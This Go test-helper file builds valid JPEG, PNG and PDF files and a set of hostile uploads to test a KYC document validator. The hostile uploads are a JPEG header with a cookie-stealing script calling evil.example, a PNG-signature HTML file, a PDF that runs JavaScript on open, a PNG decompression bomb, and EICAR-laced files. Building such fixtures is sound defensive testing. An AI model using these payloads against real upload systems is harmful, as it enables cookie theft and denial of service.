package kyctest

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"

	"github.com/kycgate/kycgate/shared/guardduty"
	"github.com/kycgate/kycgate/shared/kyc"
)

// Content returns size bytes of a file of contentType that the validator
// accepts: it decodes as that type (a small JPEG or PNG picture, a one-page
// PDF). Images are padded to size with bytes after their end (up to 1 MiB
// decoders and the validator's check skip); a PDF with a comment, which its
// cross-reference accounts for. A size below the smallest such file
// (MinContent) returns the file cut short (for an image, one that starts as
// the type does but does not decode). For another content type the bytes
// start with none of the accepted signatures.
func Content(contentType string, size int) []byte {
	var base []byte
	switch contentType {
	case kyc.JPEG:
		base = jpegFile
	case kyc.PNG:
		base = pngFile
	case kyc.PDF:
		if size >= len(pdfFile(0)) {
			// The pad moves the cross-reference table; its offset may take
			// more digits: shorten the pad by as many.
			pad := size - len(pdfFile(0))
			for pad > 0 && len(pdfFile(pad)) > size {
				pad--
			}
			if f := pdfFile(pad); len(f) == size {
				return f
			}
			// The offset gained a digit between pad and pad+1: end the file
			// with CR LF rather than LF for the byte missing.
			f := pdfFile(pad)
			return append(f[:len(f)-1], '\r', '\n')
		}
		base = pdfFile(0)
	default:
		base = []byte("plain text, no signature")
	}
	b := make([]byte, size)
	n := copy(b, base)
	for i := n; i < size; i++ {
		b[i] = byte('a' + i%26)
	}
	return b
}

// MinContent is the smallest size Content gives a valid file of contentType.
func MinContent(contentType string) int {
	switch contentType {
	case kyc.JPEG:
		return len(jpegFile)
	case kyc.PNG:
		return len(pngFile)
	case kyc.PDF:
		return len(pdfFile(0))
	}
	return 0
}

// picture is a small image with detail in both directions.
func picture() image.Image {
	img := image.NewNRGBA(image.Rect(0, 0, 24, 16))
	for y := range 16 {
		for x := range 24 {
			img.Set(x, y, color.NRGBA{uint8(x * 10), uint8(y * 15), uint8((x + y) * 5), 255})
		}
	}
	return img
}

var (
	jpegFile = func() []byte {
		var b bytes.Buffer
		if err := jpeg.Encode(&b, picture(), &jpeg.Options{Quality: 80}); err != nil {
			panic(err)
		}
		return b.Bytes()
	}()
	pngFile = func() []byte {
		var b bytes.Buffer
		if err := png.Encode(&b, picture()); err != nil {
			panic(err)
		}
		return b.Bytes()
	}()
)

// pdfFile is a one-page PDF with a comment of pad bytes after its header (a
// pad of 1 is a blank line), every cross-reference entry pointing at its
// object.
func pdfFile(pad int) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	switch {
	case pad == 1:
		b.WriteString("\n")
	case pad > 1:
		b.WriteString("%" + strings.Repeat("k", pad-2) + "\n")
	}
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
	}
	return pdfWith(&b, objects, "")
}

// pdfWith writes objects (numbered from 1) after what b holds, then the
// cross-reference table and a trailer with extra entries.
func pdfWith(b *bytes.Buffer, objects []string, trailer string) []byte {
	offsets := make([]int, len(objects))
	for i, body := range objects {
		offsets[i] = b.Len()
		fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", i+1, body)
	}
	at := b.Len()
	fmt.Fprintf(b, "xref\n0 %d\n0000000000 65535 f\r\n", len(objects)+1)
	for _, off := range offsets {
		fmt.Fprintf(b, "%010d 00000 n\r\n", off)
	}
	fmt.Fprintf(b, "trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, at)
	return b.Bytes()
}

// Hostile files: each starts with the signature of an accepted type, which is
// all the first-bytes check of old looked at. The validator refuses every
// one, by decoding.

// JPEGScript is a JPEG header (SOI and a JFIF APP0 segment) with a script
// spliced in where the image should be.
func JPEGScript() []byte {
	return append([]byte("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
		"<script>fetch('https://evil.example/?c='+document.cookie)</script>"...)
}

// PNGHTML is the PNG signature followed by HTML: 39 bytes.
func PNGHTML() []byte { return []byte("\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>")[:39] }

// PDFJavaScript is a well-formed one-page PDF whose catalog runs JavaScript
// when it is opened (/OpenAction).
func PDFJavaScript() []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	return pdfWith(&b, []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
		"<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\)) >>",
	}, "")
}

// PNGBomb is a decompression bomb: a PNG of a few kilobytes whose header
// declares 50000 × 50000 pixels (2.5 gigapixels, 10 GB decoded as RGBA).
func PNGBomb() []byte {
	chunk := func(typ string, data []byte) []byte {
		c := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		c = append(append(c, typ...), data...)
		return binary.BigEndian.AppendUint32(c, crc32.ChecksumIEEE(c[4:]))
	}
	ihdr := binary.BigEndian.AppendUint32(nil, 50000)
	ihdr = binary.BigEndian.AppendUint32(ihdr, 50000)
	ihdr = append(ihdr, 8, 6, 0, 0, 0) // 8-bit RGBA, not interlaced
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(make([]byte, 1<<20)) // the first rows of zeros; the rest would follow
	_ = zw.Close()
	out := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", ihdr)...)
	out = append(out, chunk("IDAT", z.Bytes())...)
	return append(out, chunk("IEND", nil)...)
}

// Malware test files: the EICAR anti-malware test file, which every scanner
// reports and which harms nothing, alone and inside files the checks accept,
// so that only the malware scan refuses them.

// EICAR is the EICAR test file alone (68 bytes).
func EICAR() []byte { return guardduty.EICAR() }

// PDFWithEICAR is a well-formed one-page PDF whose header comment is the
// EICAR test file: the PDF checks accept it.
func PDFWithEICAR() []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%")
	b.Write(guardduty.EICAR())
	b.WriteString("\n")
	return pdfWith(&b, []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
	}, "")
}

// JPEGWithEICAR is a JPEG picture followed by the EICAR test file: the
// image decodes, and the trailing bytes are within what the checks allow.
func JPEGWithEICAR() []byte { return append(bytes.Clone(jpegFile), guardduty.EICAR()...) }
